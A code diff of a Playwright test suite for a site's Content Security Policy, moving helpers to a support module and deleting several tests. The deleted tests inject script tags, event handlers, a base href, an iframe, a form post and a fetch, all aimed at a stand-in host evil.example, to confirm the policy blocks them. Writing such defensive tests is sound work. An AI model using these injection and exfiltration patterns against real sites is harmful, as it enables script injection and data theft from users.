@@ -1,38 +1,10 @@
-import type { Page } from "@playwright/test";
 import { CspEvaluator } from "csp_evaluator/dist/evaluator";
 import { Severity } from "csp_evaluator/dist/finding";
 import { CspParser } from "csp_evaluator/dist/parser";
-import { site } from "@/content/site";
 import { exportedFiles, readExported } from "./support/export";
+import { noteRefusals, refusals } from "./support/refusals";
 import { expect, test } from "./support/test";
 import { alive, documentsOf, header } from "./support/visit";
-
-/** What the page's policy has refused so far, as `directive what`. The test's own fixture fails on any that a test does not take. */
-async function refusals(page: Page): Promise<string[]> {
-  return page.evaluate(() => JSON.parse(document.documentElement.dataset.refused ?? "[]"));
-}
-
-/** Notes refusals on the root element from the first moment of every document. */
-const noteRefusals = () =>
-  document.addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) => {
-    const noted: string[] = JSON.parse(document.documentElement.dataset.refused ?? "[]");
-    document.documentElement.dataset.refused = JSON.stringify([...noted, `${effectiveDirective} ${blockedURI}`]);
-  });
-
-/** Opens a page whose HTML was changed on the way. */
-async function openChanged(page: Page, route: string, change: (html: string) => string): Promise<void> {
-  await page.route(`**${route}`, async (request) => {
-    const response = await request.fetch();
-    const html = await response.text();
-    const changed = change(html);
-    expect(changed).not.toBe(html);
-    await request.fulfill({ response, body: changed });
-  });
-  await page.goto(route);
-}
-
-/** The tests below provoke refusals, which the console reports. */
-const forget = (troubles: string[]) => troubles.splice(0).filter((trouble) => !trouble.includes("Content Security Policy"));
 
 test.beforeEach(async ({ page }) => page.addInitScript(noteRefusals));
 
@@ -79,32 +51,6 @@ test("theme, menus, tabs and soft navigation work under the policy", async ({ pa
   expect(await refusals(page)).toEqual([]);
 });
 
-test("an inline script that was tampered with does not run, and the page is still whole", async ({ page, troubles }) => {
-  await openChanged(page, "/faq/", (html) => html.replaceAll("<script>(function", "<script>self.tampered=1;(function"));
-  await page.mouse.move(9, 9);
-  expect(await page.evaluate(() => "tampered" in self)).toBe(false);
-  expect(await refusals(page)).toEqual(Array(3).fill("script-src-elem inline"));
-  await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
-  expect(forget(troubles)).toEqual([]);
-});
-
-test("nothing that was put into the page runs: scripts, handlers, styles, frames, other hosts, another base", async ({
-  page,
-  troubles,
-}) => {
-  const injected = `<base href="https://evil.example/"><script>self.injected=1</script><img src="/no.png" onerror="self.injected=1">
-    <script src="https://evil.example/x.js"></script><style>body{color:red}</style><iframe src="https://evil.example/"></iframe>
-    <p id="styled" style="color:red">x</p><object data="/favicon.ico"></object>`;
-  await openChanged(page, "/faq/", (html) => html.replace("</main>", `${injected}</main>`));
-  expect(await page.evaluate(() => ["injected" in self, document.baseURI.startsWith(location.origin)])).toEqual([false, true]);
-  await expect(page.locator("#styled")).not.toHaveCSS("color", "rgb(255, 0, 0)");
-  const directives = (await refusals(page)).map((refusal) => refusal.split(" ")[0]);
-  expect(directives).toEqual(
-    expect.arrayContaining(["base-uri", "script-src-elem", "script-src-attr", "style-src-elem", "style-src-attr", "frame-src"]),
-  );
-  troubles.splice(0);
-});
-
 test("the policy takes nothing away from the drawings, whose styles come with their sprites", async ({ browser, baseURL }) => {
   const shots = await Promise.all(
     [true, false].map(async (bypassCSP) => {
@@ -116,32 +62,6 @@ test("the policy takes nothing away from the drawings, whose styles come with th
     }),
   );
   expect(shots[0] === shots[1]).toBe(true);
-});
-
-test("a form sends where the site says and nowhere else", async ({ page, troubles }) => {
-  await page.goto("/faq/");
-  const send = (action: string) =>
-    page.evaluate((target) => {
-      const form = Object.assign(document.createElement("form"), { method: "post", action: target });
-      document.body.append(form);
-      form.submit();
-    }, action);
-  await send("https://evil.example/take");
-  await expect.poll(() => refusals(page)).toEqual([expect.stringMatching(/^form-action /)]);
-  expect(forget(troubles)).toEqual([]);
-  await page.goto("/contact/");
-  await expect(page.locator("form")).toHaveAttribute("action", /^mailto:/);
-  await send(`mailto:${site.email}`);
-  expect(await refusals(page)).toEqual([]);
-});
-
-test("background requests reach no other host", async ({ page, troubles }) => {
-  await page.goto("/faq/");
-  expect(await page.evaluate(() => fetch("https://evil.example/").catch((error: unknown) => String(error)))).toContain(
-    "TypeError",
-  );
-  expect(await refusals(page)).toEqual([expect.stringMatching(/^connect-src /)]);
-  expect(forget(troubles)).toEqual([]);
 });
 
 test("every page has its policy before anything else, without unsafe words, and its character set in time", () => {
